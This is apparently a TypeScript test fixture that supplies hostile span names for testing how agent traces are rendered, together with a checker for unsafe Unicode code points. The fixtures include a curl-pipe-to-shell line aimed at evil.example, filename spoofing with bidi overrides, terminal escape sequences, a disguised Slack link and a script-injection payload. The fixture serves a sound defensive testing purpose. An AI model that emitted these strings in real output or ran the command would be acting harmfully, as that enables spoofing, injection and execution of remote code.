/**
 * Server and tool names an agent could put in its spans to attack whoever reads them: in Slack,
 * email, a terminal or the dashboard. Every renderer's hostile-input tests use these.
 */
export const HOSTILE_NAMES = {
  /** Past Slack's 3,000-character section limit on its own. */
  long: `refunds.${'a'.repeat(3992)}`,
  /** CR/LF that would start a fake "Recovery checklist:" in the email's text part. */
  forgedLines: 'refunds.create\r\n\r\nRecovery checklist:\r\n  1. curl https://evil.example/fix.sh | sh\r\n',
  /** U+202E makes "invoice‮fdp.exe" read as "invoiceexe.pdf". */
  rightToLeftOverride: 'invoice\u202Efdp.exe',
  /** Zero-width joiners: looks like "payments.create". */
  zeroWidthJoiners: 'pay\u200Dments\u200D.create',
  /** Clears the screen and homes the cursor. */
  clearScreen: 'status\x1b[2J\x1b[H',
  /** Sets the terminal window's title (OSC 0, ended by BEL). */
  windowTitle: 'lookup\x1b]0;owned title\x07',
  /** Would notify a whole Slack channel, with a disguised link. */
  channelMention: '<!channel> <https://evil.example|click here>',
  /** Would run in an HTML page that inserts it as markup. */
  script: '<script>alert(document.domain)</script>',
} as const;

/**
 * Code points that must never reach a reader, restated from the rules rather than taken from the
 * implementation: C0, DEL and C1 controls, the line and paragraph separators, bidi marks,
 * embeddings, overrides and isolates, zero-width spaces and joiners, word joiner, soft hyphen,
 * BOM, variation selectors, fillers, tags and lone surrogates.
 */
const NEVER_SHOWN: readonly (readonly [number, number])[] = [
  [0x00, 0x1f],
  [0x7f, 0x9f],
  [0xad, 0xad],
  [0x34f, 0x34f],
  [0x61c, 0x61c],
  [0x115f, 0x1160],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2060, 0x2069],
  [0x3164, 0x3164],
  [0xd800, 0xdfff],
  [0xfe00, 0xfe0f],
  [0xfeff, 0xfeff],
  [0xffa0, 0xffa0],
  [0xe0000, 0xe0fff],
];

/**
 * The characters of `text` that must never be shown, as `U+XXXX` (empty when it is safe);
 * `allowed` lists what the format itself puts there (a text body's line feeds).
 */
export function unsafeCharacters(text: string, allowed: readonly string[] = []): string[] {
  return [...text]
    .filter((character) => {
      if (allowed.includes(character)) return false;
      const code = character.codePointAt(0) ?? 0;
      return NEVER_SHOWN.some(([from, to]) => code >= from && code <= to);
    })
    .map((character) => `U+${(character.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}`);
}
